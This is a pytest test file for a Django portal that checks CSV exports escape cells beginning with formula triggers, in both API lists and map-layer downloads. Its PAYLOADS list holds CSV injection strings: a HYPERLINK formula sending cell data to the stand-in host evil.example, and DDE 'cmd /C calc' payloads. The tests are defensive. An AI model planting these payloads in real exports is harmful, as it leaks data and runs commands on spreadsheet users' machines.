"""CSV formula injection: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading ``'`` in every CSV the portal writes (the API's lists and the
map layers' downloads), so that a spreadsheet shows it as text instead of running it. Both go
through one function, ``core.api.renderers.safe_cell``; plain numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.api.renderers import safe_cell
from tests.api.helpers import list_url
from tests.dialogues.factories import DialogueFactory, InsightFactory
from tests.geometry import OSTERSUND, box
from tests.organisations.factories import OrganisationFactory
from tests.places.factories import PlanningAreaFactory, municipality_at
from tests.projects.factories import FundingLineFactory, ProjectFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(content: bytes, delimiter: str) -> list[dict]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_neutralises_every_formula_trigger(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value, text",
    [
        (-12, "-12"),
        (Decimal("-12.50"), "-12.50"),
        (3.5, "3.5"),
        ("-12,5", "-12,5"),
        ("+46", "+46"),
        ("Östersund", "Östersund"),
        ("a=b", "a=b"),
        (None, ""),
        (True, "true"),
    ],
)
def test_safe_cell_leaves_numbers_and_ordinary_text_alone(value, text):
    assert safe_cell(value) == text


@pytest.mark.parametrize("value", ["-1-1", "+1 ", "-", "@", "=1", "-1e5"])
def test_safe_cell_prefixes_what_only_looks_almost_like_a_number(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_api_csv_neutralises_formulas_in_every_text_column(anonymous_api, payload):
    project = ProjectFactory(
        is_published=True, title=payload, summary=payload, source=payload, purpose=payload
    )
    owner = OrganisationFactory(name=payload)
    project.owner = owner
    project.save()
    response = anonymous_api.get(list_url("project", format="csv"))
    assert response.status_code == 200
    (row,) = csv_rows(response.content, ";")
    for column in ("title", "summary", "purpose", "source", "owner"):
        assert row[column] == "'" + payload, column


@pytest.mark.parametrize(
    "basename, make, column",
    [
        ("dialogue", lambda p: DialogueFactory(title=p), "title"),
        ("insight", lambda p: InsightFactory(text=p), "text"),
        ("organisation", lambda p: OrganisationFactory(name=p), "name"),
        (
            "fundingline",
            lambda p: FundingLineFactory(note=p, project=ProjectFactory(is_published=True)),
            "note",
        ),
    ],
)
def test_other_api_lists_neutralise_formulas_too(anonymous_api, basename, make, column):
    make(PAYLOADS[0])
    response = anonymous_api.get(list_url(basename, format="csv"))
    assert response.status_code == 200
    rows = csv_rows(response.content, ";")
    assert any(row[column] == "'" + PAYLOADS[0] for row in rows), rows


def test_amounts_in_the_api_csv_stay_numbers(anonymous_api):
    FundingLineFactory(amount=Decimal("1500.50"), project=ProjectFactory(is_published=True))
    response = anonymous_api.get(list_url("fundingline", format="csv"))
    (row,) = csv_rows(response.content, ";")
    assert row["amount"] == "1500,50"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_map_layer_csv_neutralises_formulas(client, payload):
    ostersund = municipality_at(*OSTERSUND, code="2380", name="Östersund")
    DialogueFactory(municipality=ostersund, title=payload)
    PlanningAreaFactory(geometry=box(*OSTERSUND, size=0.05), name=payload, description=payload)
    dialogues = client.get(reverse("maps:download", args=["dialogues", "csv"]))
    (row,) = csv_rows(b"".join(dialogues.streaming_content), ",")
    assert row["title"] == "'" + payload
    assert float(row["lon"]) > 0  # coordinates stay numbers
    areas = client.get(reverse("maps:download", args=["planning-areas", "csv"]))
    (row,) = csv_rows(b"".join(areas.streaming_content), ",")
    assert row["name"] == "'" + payload
    assert row["wkt"].startswith("POLYGON")


@pytest.fixture
def anonymous_api():
    from django.core.cache import cache
    from rest_framework.test import APIClient

    cache.clear()  # throttling counts live in the cache
    return APIClient(HTTP_ACCEPT_LANGUAGE="en")
